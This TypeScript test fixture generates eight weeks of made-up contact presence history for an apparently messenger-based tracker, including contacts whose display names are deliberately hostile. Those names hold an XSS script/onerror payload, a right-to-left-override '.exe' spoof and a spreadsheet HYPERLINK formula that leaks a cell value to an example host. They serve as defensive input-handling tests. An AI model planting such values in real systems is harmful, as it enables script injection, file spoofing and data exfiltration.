/** Eight weeks of made-up history, written through the real writer: routines, two gaps, and people with hostile names. */
import { join } from "node:path";
import { type Handle, openForWriting } from "../../db/open.ts";
import type { Contact, Fact, Presence } from "../../db/record/facts.ts";
import { HistoryWriter } from "../../db/record/writer.ts";
import { putAccount } from "../../db/settings/accounts.ts";
import type { Status } from "../../db/status.ts";

const MINUTE_MS = 60_000;
const HOUR_MS = 3_600_000;
const DAY_MS = 24 * HOUR_MS;

export const DAYS_RECORDED = 56;

/** Ends of the gaps, in hours before now: one of nine hours five days ago, one of thirty hours twelve days ago. */
export const GAPS_HOURS_AGO = [
  { from: 12 * 24 + 30, to: 12 * 24 },
  { from: 5 * 24 + 9, to: 5 * 24 },
] as const;

export const HOSTILE_NAMES = {
  "script@example.com": `<script>alert("pwned")</script><img src=x onerror=alert(1)>`,
  "backwards@example.com": "annexe\u202Egpj.exe",
  "sums@example.com": `=HYPERLINK("http://example.net/?leak="&A1,"open me")`,
  "emoji@example.com": "🦊 Zoë 👩‍👩‍👧 “q”",
  "endless@example.com": `${"Bartholomew".repeat(930)} the Long`,
  "nobody@example.com": "",
} as const;

/** Status from a UTC hour on; the day begins offline. */
type Routine = readonly (readonly [fromHour: number, status: Status])[];

const OFFICE: Routine = [
  [8, "available"],
  [9.5, "busy"],
  [11, "available"],
  [12, "out-to-lunch"],
  [12.75, "available"],
  [14, "on-the-phone"],
  [14.5, "available"],
  [16, "away"],
  [16.25, "available"],
  [17.5, "offline"],
];
const EVENING: Routine = [
  [17, "available"],
  [18.5, "be-right-back"],
  [19, "available"],
  [21, "idle"],
  [22, "available"],
  [23.5, "offline"],
];
const MORNING: Routine = [
  [6, "available"],
  [7, "offline"],
  [13, "other"],
  [13.5, "offline"],
];
const ALWAYS: Routine = [
  [0, "idle"],
  [7, "available"],
  [23, "idle"],
];

interface Person {
  contact: Contact;
  weekday: Routine;
  weekend: Routine;
}

const PEOPLE: Person[] = [
  person("anna@example.com", "Anna Berg", ["Friends"], OFFICE, EVENING),
  person("ben@example.com", "Ben Okafor", ["Friends", "Football"], EVENING, EVENING),
  person("chiara@example.com", "Chiara", ["Family"], MORNING, []),
  person("dmitri@example.com", "Dmitri V.", ["Work"], OFFICE, []),
  person("night@example.com", "Nightly build", ["Work"], ALWAYS, ALWAYS),
  ...Object.entries(HOSTILE_NAMES).map(([address, name]) => person(address, name, [], EVENING, MORNING)),
];

function person(address: string, name: string, groups: string[], weekday: Routine, weekend: Routine): Person {
  return { contact: { address, displayAddress: address, name, groups }, weekday, weekend };
}

const RAW: Partial<Record<Status, string>> = { available: "NLN", busy: "BSY", other: "XYZ", offline: "FLN" };

export class SampleHistory {
  readonly path: string;
  readonly accountId: number;
  readonly #db: Handle;
  readonly #writer: HistoryWriter;

  constructor(folder: string, nowMs: number, file = "rollcall.db") {
    this.path = join(folder, file);
    this.#db = openForWriting(this.path);
    putAccount(
      this.#db,
      { network: "messenger", address: "me@example.com", host: "messenger.example.com", port: 1863, options: {} },
      Buffer.from("sealed"),
      nowMs - DAYS_RECORDED * DAY_MS,
    );
    this.accountId = 1;
    this.#writer = new HistoryWriter(this.#db, nowMs - DAYS_RECORDED * DAY_MS, "0.0.0-test");
    for (const batch of factsUntil(this.accountId, nowMs)) this.#writer.append(batch);
  }

  append(...facts: Fact[]): void {
    this.#writer.append(facts);
  }

  change(address: string, status: Status, atMs: number): void {
    this.append({ kind: "change", accountId: this.accountId, atMs, address, status, raw: RAW[status] ?? "AWY" });
  }

  prove(atMs: number): void {
    this.append({ kind: "proof", accountId: this.accountId, atMs }, { kind: "heartbeat", atMs });
  }

  contactId(address: string): number {
    return this.#db.prepare("SELECT id FROM contact WHERE address = ?").pluck().get(address) as number;
  }

  close(): void {
    this.#db.close();
  }
}

function* factsUntil(accountId: number, nowMs: number): Generator<Fact[]> {
  const startMs = nowMs - DAYS_RECORDED * DAY_MS;
  const contacts = PEOPLE.map(({ contact }) => contact);
  yield [{ kind: "roster", accountId, atMs: startMs, contacts }];
  const changes = PEOPLE.flatMap((one) => changesOf(one, startMs, nowMs)).sort((a, b) => a.atMs - b.atMs);
  const edges = GAPS_HOURS_AGO.flatMap(({ from, to }) => [nowMs - from * HOUR_MS, nowMs - to * HOUR_MS]);
  const bounds = [startMs, ...edges, nowMs];
  for (let i = 0; i < bounds.length; i += 2) {
    const fromMs = bounds[i] as number;
    const toMs = bounds[i + 1] as number;
    const state = new Map<string, Presence>();
    for (const { presence } of changes.filter(({ atMs }) => atMs <= fromMs)) state.set(presence.address, presence);
    const present = [...state.values()].filter(({ status }) => status !== "offline");
    yield [{ kind: "coverage-open", accountId, fromMs, watched: contacts.map((c) => c.address), present }];
    yield changes
      .filter(({ atMs }) => atMs > fromMs && atMs < toMs)
      .map(({ atMs, presence }): Fact => ({ kind: "change", accountId, atMs, ...presence }));
    const isLast = i + 2 >= bounds.length;
    yield isLast
      ? [{ kind: "proof", accountId, atMs: toMs }]
      : [{ kind: "coverage-close", accountId, toMs, reason: "connection-lost" }];
  }
  yield [
    { kind: "account-state", accountId, atMs: nowMs - 5 * 24 * HOUR_MS, state: "watching", detail: "" },
    { kind: "heartbeat", atMs: nowMs },
  ];
}

/** Every change of one person, each day a little earlier or later than the last. */
function changesOf(
  { contact, weekday, weekend }: Person,
  startMs: number,
  nowMs: number,
): { atMs: number; presence: Presence }[] {
  const changes: { atMs: number; presence: Presence }[] = [];
  const seed = [...contact.address].reduce((sum, letter) => sum + letter.charCodeAt(0), 0);
  for (let dayMs = Math.floor(startMs / DAY_MS) * DAY_MS; dayMs < nowMs; dayMs += DAY_MS) {
    const dayNumber = dayMs / DAY_MS;
    // 1970-01-01 was a Thursday.
    const isWeekend = (dayNumber + 3) % 7 >= 5;
    // Now and then somebody stays away.
    if ((dayNumber * 7 + seed) % 11 === 0) continue;
    for (const [hour, status] of isWeekend ? weekend : weekday) {
      const late = hour === 0 ? 0 : ((dayNumber * 31 + seed * 17 + hour * 13) % 41) - 20;
      const atMs = dayMs + hour * HOUR_MS + late * MINUTE_MS;
      if (atMs > startMs && atMs < nowMs)
        changes.push({ atMs, presence: { address: contact.address, status, raw: RAW[status] ?? "AWY" } });
    }
  }
  return changes;
}
